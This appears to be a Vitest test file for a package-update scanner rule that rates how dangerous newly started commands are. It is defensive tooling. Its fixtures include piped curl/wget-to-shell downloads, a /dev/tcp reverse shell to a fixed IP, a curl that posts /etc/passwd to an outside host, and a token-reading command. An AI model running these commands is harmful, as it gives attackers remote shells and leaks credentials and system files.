// A program that an update starts.
import { describe, expect, test } from 'vitest';
import { fact, text } from '../support/code-facts.ts';
import { judgedDifference, judgeDifference, severitiesOf } from '../support/difference-facts.ts';

const ID = 'new-program-run';
const run = (command: string, more: Parameters<typeof fact<'process'>>[1] = {}) => fact('process', { command, origins: [text(command)], ...more });
const GIT = run('git --version');

test('the packages of its fixtures', async () => {
  expect(await judgedDifference(ID, 'bad')).toMatchObject([{ severity: 'high', standing: 'new', locations: [{ line: 3 }], change: { now: 'curl -s https://collect.example/a.sh | sh' } }]);
  expect((await judgedDifference(ID, 'good')).map(({ severity }) => severity)).toEqual(['info']);
});

test.each([
  ['the same program with other words', run('git status'), 'info'],
  ['another harmless one', run('xdg-open https://vendor.example'), 'low'],
  ['a download', run('curl -O https://other.example/a'), 'medium'],
  ['a download that takes with it what callers give', run('curl https://other.example/', { origins: [text('curl https://other.example/?q='), { kind: 'argument' }] }), 'high'],
  ['a download from a drop', run('curl -O https://transfer.sh/a'), 'high'],
  ['a download handed to a shell', run('wget -qO- https://other.example/a | bash'), 'high'],
  ['a shell to another machine', run('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'), 'high'],
  ['a decoded line', fact('process', { command: 'touch a', origins: [text('touch a', 'base64')] }), 'high'],
  ['a line that its code hides', fact('process', { origins: [{ kind: 'hidden', why: 'a decoder' }] }), 'high'],
  ['what a server tells', fact('process', { origins: [{ kind: 'remote', from: 'other.example' }] }), 'high'],
  ['a program that gives a token', run('gh auth token'), 'high'],
] as const)('%s', async (_what, command, severity) => {
  expect(await severitiesOf(ID, [GIT], [GIT, command])).toEqual([severity]);
});

describe('by what was before', () => {
  test('an interpreter where nothing was started', async () => {
    expect(await severitiesOf(ID, [], [run('python3 tool.py')])).toEqual(['medium']);
    expect(await severitiesOf(ID, [GIT], [GIT, run('python3 tool.py')])).toEqual(['low']);
  });
  test('its own host, by the earlier words alone', async () => {
    const install = run('curl https://vendor.example/install.sh | sh');
    expect(await severitiesOf(ID, [GIT], [install], { said: ['vendor.example'] })).toEqual(['low']);
    expect(await severitiesOf(ID, [GIT], [install], { says: ['vendor.example'] })).toEqual(['high']);
  });
  test('another version of the same tool is none', async () => {
    expect(await severitiesOf(ID, [run('npx tool@1.2.3')], [run('npx tool@1.2.4')])).toEqual([]);
  });
});

test('while it is installed', async () => {
  const hook = fact('install-script', { hook: 'postinstall', command: 'node setup.js', runs: ['setup.js'] });
  expect(await judgeDifference(ID, [hook], [hook, run('hostname', { file: 'setup.js' })])).toMatchObject([{ severity: 'high', title: 'a-package 1.0.1 newly runs hostname while it is installed' }]);
  expect(await severitiesOf(ID, [hook], [hook, run('node-gyp rebuild', { file: 'setup.js' })])).toEqual(['low']);
  // What esbuild's installer did between 0.14 and 0.24: renamed parts, and which macOS this is.
  const before = run('npm install --no-audit esbuild-windows-arm64@0.14.0', { file: 'setup.js' });
  expect(await severitiesOf(ID, [hook, before], [hook, run('npm install --no-audit @esbuild/win32-arm64@*', { file: 'setup.js' })])).toEqual(['medium']);
  expect(await severitiesOf(ID, [hook, before], [hook, before, run('sw_vers -productVersion', { file: 'setup.js' })])).toEqual(['low']);
  expect(await severitiesOf(ID, [hook, before], [hook, before, run('uname -a; curl -d @/etc/passwd https://other.example', { file: 'setup.js' })])).toEqual(['high']);
  expect(await severitiesOf(ID, [hook, run('bash build.sh', { file: 'setup.js' })], [hook, run('bash other.sh', { file: 'setup.js' })])).toEqual(['high']);
});
